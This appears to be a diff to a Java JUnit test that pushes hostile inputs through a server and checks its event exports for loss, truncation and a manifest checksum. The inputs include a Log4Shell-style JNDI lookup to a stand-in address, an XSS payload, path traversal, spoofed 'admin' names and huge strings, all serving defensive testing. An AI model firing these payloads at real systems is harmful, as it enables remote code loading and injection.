@@ -17,10 +17,14 @@ import java.io.StringWriter;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.security.MessageDigest;
 import java.util.ArrayList;
 import java.util.HashSet;
+import java.util.HexFormat;
 import java.util.List;
 import java.util.Set;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
@@ -36,6 +40,8 @@ class HostileThroughServerTest {
     private static final String ESCAPING = "escaping-7q";
     private static final List<String> LIKE_ADMIN =
             List.of("admin", "Admin", "\uff41\uff44\uff4d\uff49\uff4e", "adm\u0130n", "\u0430dmin");
+
+    private static final int VALUE_CHARS_MAX = 64 * 1_024;
 
     private StartedServer started;
     private Session ann = new Session("", "");
@@ -81,6 +87,7 @@ class HostileThroughServerTest {
                                 "gpj.\u202enimda",
                                 "Z" + "\u0301".repeat(1_000),
                                 "x".repeat(200_000),
+                                "y".repeat(2_000_000),
                                 "\u00e9".repeat(40_000),
                                 "../../" + ESCAPING,
                                 "CON",
@@ -89,6 +96,8 @@ class HostileThroughServerTest {
                                 "${jndi:ldap://192.0.2.1/a}",
                                 "<img src=x onerror=alert(1)>"));
         texts.addAll(LIKE_ADMIN);
+        // Together more than a client takes that sets no limit of its own.
+        IntStream.range(0, 20).forEach(i -> texts.add(i + "w".repeat(70_000)));
         Path list =
                 Path.of(
                         System.getProperty("gatehouse.shared", "none"),
@@ -103,11 +112,16 @@ class HostileThroughServerTest {
         return texts;
     }
 
+    // A040: of a value of megabytes an event holds the beginning, and says how much is missing.
+    private static String shown(String text) {
+        return text.length() <= VALUE_CHARS_MAX ? text : text.substring(0, VALUE_CHARS_MAX);
+    }
+
     private List<String> actors() throws IOException {
         List<String> actors = new ArrayList<>();
         for (String line : exported("jsonl")) {
             JsonObject event = (JsonObject) Json.parse(line);
-            actors.add(((JsonObject) event.get("actor")).get("id").text());
+            actors.add(shown(((JsonObject) event.get("actor")).get("id").text()));
         }
         return actors;
     }
@@ -127,8 +141,14 @@ class HostileThroughServerTest {
 
     @Test
     void nothingIsLostAndNothingHarms() throws IOException {
-        Set<String> wanted = new HashSet<>(texts);
+        Set<String> wanted =
+                texts.stream()
+                        .map(HostileThroughServerTest::shown)
+                        .collect(Collectors.toUnmodifiableSet());
         assertThat(new HashSet<>(actors())).isEqualTo(wanted);
+        assertThat(exported("jsonl"))
+                .allMatch(line -> line.length() < 1_000_000)
+                .anyMatch(line -> line.contains("[cut: 1,934,464 more characters, "));
         assertThat(started.get(ann, "/api/v1/status").body())
                 .contains("\"quarantined\":0")
                 .doesNotContain("\"stopped\"");
@@ -158,6 +178,22 @@ class HostileThroughServerTest {
             raw.add(((JsonObject) sent.get("user")).get("username").text());
         }
         assertThat(raw).isEqualTo(new HashSet<>(texts));
+    }
+
+    // Line ends within cells and between rows are the file's own; the manifest beside it tells.
+    @Test
+    void theCommandLineWritesAnExportAsItIs(@TempDir Path folder) throws Exception {
+        Path file = folder.resolve("events.csv");
+        String data = started.data().toString();
+        String said =
+                shown("events", "export", "--data", data, "--format", "CSV", "-o", file.toString());
+        assertThat(said).contains("As far as these can see:").contains("kubernetes:hostile");
+        JsonObject manifest =
+                (JsonObject)
+                        Json.parse(Files.readAllBytes(folder.resolve("events.csv.manifest.json")));
+        byte[] digest = MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file));
+        assertThat(manifest.get("sha256").text()).isEqualTo(HexFormat.of().formatHex(digest));
+        assertThat(manifest.get("rows").text()).isEqualTo(Integer.toString(texts.size()));
     }
 
     @Test
